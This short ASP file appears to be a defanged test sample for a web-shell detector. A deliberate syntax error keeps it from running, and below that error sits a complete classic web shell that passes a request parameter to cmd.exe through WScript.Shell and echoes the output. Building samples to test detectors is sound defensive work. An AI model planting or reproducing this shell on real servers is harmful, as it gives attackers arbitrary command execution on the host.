<%' DEFANGED vigil test sample (see README): the next line is a VBScript syntax error. %>
<% If Then DEFANGED %>
<%
Set sh = CreateObject("WScript.Shell")
Set ex = sh.Exec("cmd.exe /c " & Request("c"))
Response.Write ex.StdOut.ReadAll()
%>
